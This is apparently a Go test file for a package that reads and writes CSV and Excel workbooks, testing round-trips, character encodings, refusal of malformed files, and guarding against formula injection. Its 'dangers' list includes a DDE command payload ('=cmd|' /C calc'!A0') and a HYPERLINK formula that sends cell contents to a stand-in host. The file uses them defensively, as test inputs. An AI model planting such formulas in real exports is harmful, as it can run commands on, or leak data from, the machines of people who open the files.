package table

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/unicode"
)

// read gives a file's lines.
func read(file []byte) ([]Line, error) {
	r, err := Open(bytes.NewReader(file))
	if err != nil {
		return nil, err
	}
	defer r.Close()
	var lines []Line
	for {
		l, err := r.Next()
		if errors.Is(err, io.EOF) {
			return lines, nil
		}
		if err != nil {
			return lines, err
		}
		lines = append(lines, l)
	}
}

func write(t testing.TB, f Format, lines ...[]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := New(&b, f, "customers")
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range lines {
		if err := w.Write(l...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// dangers are cells that spreadsheets evaluate, or that look as if they were guarded.
var dangers = []string{
	"=1+1", "+8613800138000", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example?"&A1,"click")`, "＝1+1", "'=1", "''=1", "'", "''", "'abc",
	"x;=1+1", "a\n=1", "a\n'=1", "x; +1", "' =1", "13800138000/+862165520001", "a=b", "王伟", `say "hi", he said`, "007", "1e9", "2026-11-29", "TRUE", "_x000D_",
}

// TestComesBack: what we write we read, whatever is in it.
func TestComesBack(t *testing.T) {
	for _, f := range Formats() {
		want := [][]string{{"name", "note"}}
		for _, d := range dangers {
			want = append(want, []string{d, "x"}, []string{"x", d})
		}
		lines, err := read(write(t, f, want...))
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		if len(lines) != len(want) {
			t.Fatalf("%s: %d lines, want %d", f, len(lines), len(want))
		}
		for i, l := range lines {
			if !slices.Equal(l.Cells, want[i]) {
				t.Errorf("%s: line %d is %q, want %q", f, l.N, l.Cells, want[i])
			}
		}
	}
}

// TestNothingIsEvaluated: no cell of a CSV file begins a formula, whatever separates cells
// in the eyes of who reads it; those of a workbook are text.
func TestNothingIsEvaluated(t *testing.T) {
	for _, d := range dangers {
		file := string(write(t, CSV, []string{d}))
		for _, cell := range strings.FieldsFunc(strings.TrimPrefix(file, byteOrderMark), func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
			if cell = strings.TrimLeft(cell, ` "`); cell != "" && strings.ContainsAny(firstOf(cell), evaluated) && !strings.HasPrefix(d, `say`) {
				t.Errorf("%q is written as %q, of which %q would be evaluated", d, file, cell)
			}
		}
	}
	lines := [][]string{}
	for _, d := range dangers {
		lines = append(lines, []string{d})
	}
	book, err := excelize.OpenReader(bytes.NewReader(write(t, XLSX, lines...)))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for i, d := range dangers {
		at := fmt.Sprint("A", i+1)
		kind, err := book.GetCellType("customers", at)
		if err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%q is a cell of type %v, %v", d, kind, err)
		}
		if formula, err := book.GetCellFormula("customers", at); formula != "" || err != nil {
			t.Errorf("%q is the formula %q, %v", d, formula, err)
		}
		if got, err := book.GetCellValue("customers", at); got != d || err != nil {
			t.Errorf("%q is shown as %q, %v", d, got, err)
		}
	}
}

func FuzzGuard(f *testing.F) {
	for _, d := range dangers {
		f.Add(d)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		if !utf8.ValidString(cell) {
			return
		}
		guarded := Guard(cell)
		if got := Unguard(guarded); got != cell {
			t.Errorf("%q is guarded as %q and comes back as %q", cell, guarded, got)
		}
		for _, part := range strings.FieldsFunc(guarded, func(r rune) bool { return strings.ContainsRune(separators, r) }) {
			if part = strings.TrimLeft(part, " "); part != "" && strings.ContainsAny(firstOf(part), evaluated) {
				t.Errorf("%q is guarded as %q, of which %q would be evaluated", cell, guarded, part)
			}
		}
	})
}

func FuzzCSV(f *testing.F) {
	for _, d := range dangers {
		f.Add(d, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if !utf8.ValidString(a) || !utf8.ValidString(b) || strings.ContainsAny(a+b, "\x00\r") || strings.TrimSpace(b) != b || strings.TrimSpace(a) != a || b == "" || strings.HasPrefix(a, byteOrderMark) {
			return
		}
		lines, err := read(write(t, CSV, []string{"one", "two"}, []string{a, b}))
		if err != nil || len(lines) != 2 || !slices.Equal(lines[1].Cells, []string{a, b}) {
			t.Errorf("%q %q comes back as %v, %v", a, b, lines, err)
		}
	})
}

// FuzzOpen: whatever the bytes, there are lines or an error, and never both for long.
func FuzzOpen(f *testing.F) {
	f.Add([]byte("name,number\n王伟,13800138000\n"))
	f.Add([]byte("\xff\xfea\x00"))
	f.Add([]byte("PK\x03\x04"))
	f.Add(write(f, XLSX, []string{"name"}, []string{"=1"}))
	f.Fuzz(func(t *testing.T, file []byte) {
		lines, err := read(file)
		for _, l := range lines {
			if len(l.Cells) == 0 || len(l.Cells) > columnsMost {
				t.Errorf("line %+v, %v", l, err)
			}
		}
	})
}

// TestEncodings: spreadsheets of all sorts are read.
func TestEncodings(t *testing.T) {
	text := "姓名;电话\r\n王伟;+8613800138000\r\n"
	gb, err := simplifiedchinese.GB18030.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	wide, err := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String(strings.ReplaceAll(text, ";", "\t"))
	if err != nil {
		t.Fatal(err)
	}
	for name, file := range map[string]string{"utf-8": text, "mark": byteOrderMark + text, "gb18030": gb, "utf-16": wide, "comma": strings.ReplaceAll(text, ";", ",")} {
		lines, err := read([]byte(file))
		if err != nil || len(lines) != 2 || !slices.Equal(lines[1].Cells, []string{"王伟", "+8613800138000"}) || lines[1].N != 2 {
			t.Errorf("%s: %v, %v", name, lines, err)
		}
	}
}

// TestRefused: what is broken or too much is refused, with its place and what is allowed.
func TestRefused(t *testing.T) {
	book := write(t, XLSX, []string{"name"}, []string{"王伟"})
	for want, file := range map[string][]byte{
		"line 2 is no text in GB18030":   []byte("a,b\n\xff\xff,x\n"),
		"line 2 has a zero byte":         []byte("a,b\n\x00,x\n"),
		"line 2, byte 6":                 []byte("a,b\n1,\"2\n"),
		"line 2, byte 2":                 []byte("a,b\n1\"x,2\n"),
		"line 1 has 101 columns":         []byte(strings.Repeat("x,", 100) + "x\n"),
		"line 2, column 1: the cell has": []byte("a\n" + strings.Repeat("x", cellMost+1) + "\n"),
		"more than 200000 lines":         []byte(strings.Repeat("x\n", LinesMost+1)),
		"more than 32 MB":                bytes.Repeat([]byte("x"), FileMost+1),
		"of the old kind (.xls)":         []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
		"cannot be unpacked":             book[:len(book)-40],
		"is no workbook":                 pack(t, "word/document.xml", strings.NewReader("<w/>")),
		"unexpected EOF":                 pack(t, "xl/workbook.xml", strings.NewReader("<workbook><sheets>")),
		"is not allowed; allowed: UTF-8": pack(t, "xl/workbook.xml", strings.NewReader(`<?xml version="1.0" encoding="utf-7"?><workbook/>`)),
		"has more than 256 MB":           pack(t, "xl/workbook.xml", io.LimitReader(blanks{}, unpackedMost+1)),
	} {
		if _, err := read(file); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %s", err, want)
		}
	}
	swapped := bytes.Clone(book)
	for i := len(swapped) / 3; i < len(swapped)/3+8; i++ {
		swapped[i] ^= 0xff
	}
	if lines, err := read(swapped); err == nil {
		t.Errorf("a damaged workbook is read as %v", lines)
	}
}

type blanks struct{}

func (blanks) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = ' '
	}
	return len(b), nil
}

func pack(t *testing.T, name string, part io.Reader) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create(name)
	if err == nil {
		if _, err = io.Copy(w, part); err == nil {
			err = z.Close()
		}
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestForeignWorkbook: numbers that a spreadsheet keeps as numbers come as they are shown,
// of formulas the last result, empty lines not at all.
func TestForeignWorkbook(t *testing.T) {
	book := excelize.NewFile()
	defer book.Close()
	for at, v := range map[string]any{"A1": "电话", "B1": "debt", "A4": 13800138000, "B4": 12.5, "A5": 8613800138000} {
		if err := book.SetCellValue("Sheet1", at, v); err != nil {
			t.Fatal(err)
		}
	}
	if err := book.SetCellFormula("Sheet1", "C4", "1+1"); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := book.Write(&b); err != nil {
		t.Fatal(err)
	}
	lines, err := read(b.Bytes())
	if err != nil || len(lines) != 3 {
		t.Fatalf("%v, %v", lines, err)
	}
	if l := lines[1]; l.N != 4 || !slices.Equal(l.Cells, []string{"13800138000", "12.5"}) {
		t.Errorf("%+v", l)
	}
	if l := lines[2]; l.Cells[0] != "8613800138000" {
		t.Errorf("%+v", l)
	}
}

// FuzzSheet: whatever a workbook's sheet and its texts are, there are lines or an error.
func FuzzSheet(f *testing.F) {
	f.Add([]byte(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>`),
		[]byte(`<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>name</t></si></sst>`))
	f.Add([]byte(`<worksheet><sheetData><row r="1048576"><c r="XFD1048576"><f>1+1</f><v>2</v></c></row><row r="1"><c t="inlineStr"><is><t>a</t></is></c></row></sheetData></worksheet>`), []byte(`<sst/>`))
	whole := write(f, XLSX, []string{"name"})
	f.Fuzz(func(t *testing.T, sheet, texts []byte) {
		lines, err := read(rebuild(t, whole, sheet, texts))
		for _, l := range lines {
			if len(l.Cells) == 0 || len(l.Cells) > columnsMost {
				t.Errorf("line %+v, %v", l, err)
			}
		}
	})
}

// rebuild is a workbook of ours with another sheet and with texts.
func rebuild(t *testing.T, whole, sheet, texts []byte) []byte {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(whole), int64(len(whole)))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	put := func(name string, content []byte) {
		w, err := z.Create(name)
		if err == nil {
			_, err = w.Write(content)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, part := range archive.File {
		from, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(from)
		if err != nil {
			t.Fatal(err)
		}
		if part.Name == "xl/worksheets/sheet1.xml" {
			content = sheet
		}
		put(part.Name, content)
	}
	put("xl/sharedStrings.xml", texts) // which our own workbooks have not
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
